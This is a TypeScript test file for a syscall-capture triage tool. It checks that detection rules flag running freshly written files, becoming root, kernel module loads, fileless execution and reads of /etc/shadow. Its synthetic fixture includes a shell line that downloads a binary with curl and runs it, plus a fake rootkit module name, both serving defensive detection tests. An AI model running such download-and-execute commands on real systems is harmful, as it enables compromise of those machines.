import { describe, it, expect } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { writeCapture, HEADER } from '../../helpers.js';
import { triage, type Finding } from '../../../analyzer/triage/index.js';
import { RULES } from '../../../analyzer/triage/rules.js';
import type { RecordInit } from '../../../format/index.js';

const FIX = 'fixtures/incident.cap';
const b = (s: string) => Buffer.from(s);
const byRule = (fs: Finding[], id: string) => fs.filter((f) => f.rule === id);
const S = 1e9;

describe('triage on the recorded fixture', () => {
  it('finds the scenario, most suspicious first, each with process, time and drill-down', async () => {
    const { findings } = await triage(FIX, () => {});
    const written = byRule(findings, 'exec-written');
    expect(written).toHaveLength(1);
    expect(written[0]!.summary).toMatch(/ran \/tmp\/secrec-scenario\.\w+\/payload\.sh, written [\d.]+ s before/);
    expect(written[0]!.evidence[0]).toMatch(/written \(open flags 0\d+\) by bash pid 6842@/);
    expect(written[0]!.process).toMatch(/^6846@00:12:21\.\d{3}$/);
    expect(written[0]!.drill).toBe('secanalyze tree fixtures/incident.cap --pid 6846@0.750');
    expect(byRule(findings, 'exec-temp').map((f) => f.pid)).toEqual(expect.arrayContaining([6846, 6847]));
    const shadow = byRule(findings, 'denied-sensitive');
    expect(shadow).toHaveLength(1);
    expect(shadow[0]).toMatchObject({ pid: 6848, user: 'nobody', severity: 'high' });
    expect(shadow[0]!.summary).toBe('EACCES on openat /etc/shadow as nobody');
    expect(byRule(findings, 'cred-change')[0]!.summary).toBe('uid 0→65534, gid 0→65534');
    expect(byRule(findings, 'exec-failed').map((f) => f.summary)).toEqual([expect.stringMatching(/^ENOENT: \S+missing-tool --flag value$/)]);
    const shell = byRule(findings, 'shell-session')[0]!;
    expect(shell.pid).toBe(6852);
    expect(shell.evidence.join('\n')).toContain('$ echo hello from the pty');
    expect(shell.evidence.join('\n')).toContain('$ id -u');
    expect(byRule(findings, 'preexisting-active').map((f) => f.pid)).toContain(6826);
    // the module probe was not there: said, with the rule it blinds
    expect(byRule(findings, 'probe-skipped')[0]!.evidence[0]).toContain('module-load');
    // PATH search failures of setpriv are not "failed execs"
    expect(byRule(findings, 'exec-failed').some((f) => f.pid === 6848)).toBe(false);
    const order = findings.map((f) => ['high', 'medium', 'low', 'info'].indexOf(f.severity));
    expect(order).toEqual([...order].sort((a, c) => a - c));
  });

  it('CLI: text and --json, exit 0', () => {
    const text = execFileSync('node', ['dist/analyzer/cli.js', 'triage', FIX], { encoding: 'utf8' });
    expect(text).toMatch(/^== triage of fixtures\/incident.cap ==\nHost vm /);
    expect(text).toMatch(/SHA-256 chain e46c79e2/);
    expect(text).toMatch(/ 1\. HIGH /);
    const json = execFileSync('node', ['dist/analyzer/cli.js', 'triage', FIX, '--json', '--min', 'medium'], { encoding: 'utf8' });
    const rows = json.trim().split('\n').map((l) => JSON.parse(l) as Finding);
    expect(rows.every((r) => r.severity === 'high' || r.severity === 'medium')).toBe(true);
    expect(rows.some((r) => r.rule === 'exec-written')).toBe(true);
    expect(spawnSync('node', ['dist/analyzer/cli.js', 'triage', FIX, '--min', 'bogus']).status).toBe(2);
  });
});

describe('triage on a synthetic capture', () => {
  const proc = (pid: number, ppid: number, uid: number, comm: string, exe: string): RecordInit =>
    ({ ts: 0, pid, tid: pid, ppid, uid, gid: uid, comm: b(comm), process: { exe: b(exe), argv: [b(exe)], start: -5 * S } });
  const recs: RecordInit[] = [
    proc(1, 0, 0, 'systemd', '/sbin/init'),
    proc(50, 1, 0, 'agent', '/dev/shm/.x/agent'),
    proc(60, 1, 1000, 'bash', '/usr/bin/bash'),
    { ts: 1 * S, pid: 60, tid: 60, ppid: 1, uid: 1000, gid: 1000, comm: b('bash'), readline: { line: b('curl -o x http://h/x; chmod +x x; ./x') } },
    { ts: 1.1 * S, pid: 60, tid: 60, ppid: 1, uid: 1000, gid: 1000, comm: b('bash'), fork: { childPid: 61, childTid: 61 } },
    // written through a relative path resolved against its directory, then run by its full path
    { ts: 1.2 * S, pid: 61, tid: 61, ppid: 60, uid: 1000, gid: 1000, comm: b('curl'), open: { path: b('x'), dir: b('/home/alice'), ret: 3, flags: 0o1101 } },
    { ts: 1.3 * S, pid: 61, tid: 61, ppid: 60, uid: 1000, gid: 1000, comm: b('x'), exec: { filename: b('/home/alice/x'), argv: [b('./x')], ino: '77' } },
    // a setuid helper: the uid changes to 0 mid-life
    { ts: 1.4 * S, pid: 61, tid: 61, ppid: 60, uid: 0, gid: 0, comm: b('x'), open: { path: b('/etc/passwd'), ret: 4, flags: 0 } },
    { ts: 1.5 * S, pid: 61, tid: 61, ppid: 60, uid: 0, gid: 0, comm: b('x'), moduleLoad: { name: b('rootkit<script>') } },
    { ts: 1.6 * S, pid: 61, tid: 61, ppid: 60, uid: 0, gid: 0, comm: b('x'), exec: { filename: b('/dev/fd/3'), argv: [b('memfd')], ino: '9' } },
    { ts: 1.7 * S, pid: 0, tid: 0, ppid: 0, uid: 0, gid: 0, comm: b(''), lost: { probe: 'exec', count: 12 } },
    // twelve EPERM within a second: a burst
    ...Array.from({ length: 12 }, (_, i): RecordInit => ({ ts: 2 * S + i * 1e7, pid: 60, tid: 60, ppid: 1, uid: 1000, gid: 1000, comm: b('bash'), syscallError: { nr: 105, errno: 1 } })),
    { ts: 3 * S, pid: 50, tid: 50, ppid: 1, uid: 0, gid: 0, comm: b('agent'), open: { path: b('/etc/shadow'), ret: 3, flags: 0 } },
  ];
  const header = { ...HEADER, probes: [{ name: 'exec', attached: true }, { name: 'module', attached: true }, { name: 'readline', attached: false, reason: 'no bash found' }] };

  it('judges every rule it has facts for, and names the gaps', async () => {
    const { path } = writeCapture(recs, { header });
    const { findings } = await triage(path, () => {});
    const ids = new Set(findings.map((f) => f.rule));
    for (const id of ['exec-temp', 'exec-written', 'exec-fileless', 'became-root', 'module-load', 'denial-burst', 'shell-session', 'capture-lost', 'probe-skipped', 'preexisting-active']) {
      expect(ids, id).toContain(id);
    }
    expect(byRule(findings, 'exec-written')[0]!.summary).toMatch(/^ran \/home\/alice\/x, written 0\.100 s before$/);
    expect(byRule(findings, 'exec-temp')[0]).toMatchObject({ pid: 50, ts: null, severity: 'high' });
    expect(byRule(findings, 'became-root')[0]).toMatchObject({ pid: 61, summary: 'uid 1000→0, gid 1000→0 in x' });
    expect(byRule(findings, 'module-load')[0]!.summary).toBe('module rootkit<script>');
    expect(byRule(findings, 'denial-burst')[0]).toMatchObject({ pid: 60, summary: '12 denials' });
    expect(byRule(findings, 'denial-burst')[0]!.evidence[1]).toBe('EPERM setuid ×12');
    expect(byRule(findings, 'denials').some((f) => f.pid === 60)).toBe(false);
    expect(byRule(findings, 'capture-lost')[0]!.summary).toBe('12 exec events lost');
    // findings of rules that rely on a lossy or missing probe carry the gap
    expect(byRule(findings, 'exec-written')[0]!.gaps).toEqual(['12 exec events were lost']);
    expect(byRule(findings, 'shell-session')[0]!.gaps).toEqual(['probe readline was not attached']);
    expect(byRule(findings, 'probe-skipped')[0]!.evidence[0]).toBe('rules that could not see it: shell-session');
    // nothing denied /etc/shadow to a root agent: no sensitive denial
    expect(byRule(findings, 'denied-sensitive')).toEqual([]);
  });

  it('says when the capture is cut short', async () => {
    const { path } = writeCapture(recs, { header, finish: false });
    const { findings } = await triage(path, () => {});
    expect(findings[0]!.rule).toBe('capture-damaged');
    expect(findings[0]!.summary).toMatch(/^truncated after frame \d+$/);
    expect(spawnSync('node', ['dist/analyzer/cli.js', 'triage', path]).status).toBe(3);
  });

  it('every rule has an id, a title, a severity and a test; ids are unique', () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of RULES) expect(r.title.length && typeof r.test === 'function' && ['high', 'medium', 'low', 'info'].includes(r.severity)).toBeTruthy();
  });
});
